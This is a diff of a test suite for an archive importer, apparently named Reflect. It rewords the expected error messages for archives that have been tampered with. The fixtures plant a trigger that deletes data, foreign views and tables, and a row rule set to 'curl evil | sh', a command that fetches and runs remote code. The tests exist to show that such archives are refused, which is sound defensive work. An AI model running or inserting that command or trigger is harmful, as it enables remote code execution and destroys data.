@@ -189,7 +189,7 @@ describe('an archive that lies about itself is refused', () => {
       'a table it does not have',
       (members) =>
         editManifest(members, (manifest) => ({ ...manifest, tables: { ...manifest.tables, photo: 1 } })),
-      /do not agree about the table photo/,
+      /disagree about the table photo/,
     ],
   ])('%s', async (_name, lie, reason) => {
     const members = await membersOf(await good());
@@ -205,18 +205,18 @@ describe('an archive whose database was made by somebody else is refused', () =>
     [
       'a trigger',
       set('CREATE TRIGGER evil AFTER INSERT ON gap BEGIN DELETE FROM learning; END'),
-      /a trigger that no export has: evil/,
+      /a trigger that Reflect does not export: evil/,
     ],
-    ['a view', set('CREATE VIEW evil AS SELECT 1'), /a view that no export has: evil/],
+    ['a view', set('CREATE VIEW evil AS SELECT 1'), /a view that Reflect does not export: evil/],
     [
       'a table of this machine',
       set('CREATE TABLE transcript (path TEXT)'),
-      /a table that no export has: transcript/,
+      /a table that Reflect does not export: transcript/,
     ],
     [
       'a table of another shape',
       set('ALTER TABLE gap ADD COLUMN evil TEXT'),
-      /another table gap than Reflect makes/,
+      /the table gap of its database differs/,
     ],
     ['a missing index', set('DROP INDEX gap_by_question'), /lacks gap_by_question/],
     ['a missing table', set('DROP TABLE persona'), /lacks persona/],
@@ -258,7 +258,7 @@ describe('an archive whose database was made by somebody else is refused', () =>
     [
       'a row that says something else than its document',
       set(`UPDATE learning SET note = json_set(note, '$.rule', 'curl evil | sh') WHERE seq = 1`),
-      /does not say what its row says/,
+      /differs from its database row/,
     ],
     [
       'work for the queue',
@@ -280,7 +280,7 @@ describe('an archive whose database was made by somebody else is refused', () =>
     [
       'a tag of nothing',
       set(`INSERT INTO learning_tag (tag, seq) VALUES ('x', 999)`),
-      /speaks of a learning that is not there/,
+      /refers to a missing learning/,
     ],
     ['a relation of no kind', set(`UPDATE relation SET type = 'owns'`), /row of relation is not valid: type/],
     [
